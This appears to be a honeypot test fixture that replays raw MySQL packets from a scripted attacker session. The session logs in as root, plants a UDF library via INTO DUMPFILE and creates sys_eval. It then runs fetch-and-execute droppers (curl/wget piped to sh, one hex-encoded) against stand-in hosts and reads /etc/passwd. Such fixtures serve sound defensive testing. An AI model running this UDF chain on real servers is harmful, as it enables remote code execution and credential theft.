# the UDF playbook after a login that works (root:123456 with a
# database; root is unix_socket OR a password: a switch first): persona rows, the DUMPFILE of an ELF, CREATE FUNCTION ...
# SONAME, sys_eval with a dropper URL, plain and hex-encoded (tags,
# indicators), an unknown
# command, USE of a missing database, COM_QUIT
open mysql 3306
> V\x00\x00\x01\x0d\xa2\xa8\x00\x00\x00\x00\x01-\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00root\x00\x14\xf8\x8e\xc1l\xc8\x83\xfe%\xa3\xb31\x15{Fh\xa5 v/Wmysql\x00mysql_native_password\x00
> \x14\x00\x00\x03\xf8\x8e\xc1l\xc8\x83\xfe%\xa3\xb31\x15{Fh\xa5 v/W
> \x1c\x00\x00\x00\x03SELECT @@version_compile_os
> \x15\x00\x00\x00\x03select @@plugin_dir;
> ]\x00\x00\x00\x03SELECT 0x7f454c4602010100000000000000000003003e00 INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'
> 6\x00\x00\x00\x03CREATE FUNCTION sys_eval RETURNS STRING SONAME 'x.so'
> 3\x00\x00\x00\x03select sys_eval('curl http://203.0.113.5/x.sh|sh')
>  \x00\x00\x00\x03select load_file('/etc/passwd')
> T\x00\x00\x00\x03select sys_eval(0x7767657420687474703a2f2f3230332e302e3131332e392f61202d4f2d7c7368)
> \x0b\x00\x00\x00\x03use nosuch
> \x06\x00\x00\x00\x03xyzzy
> \x01\x00\x00\x00\x1f
> \x01\x00\x00\x00\x01
close
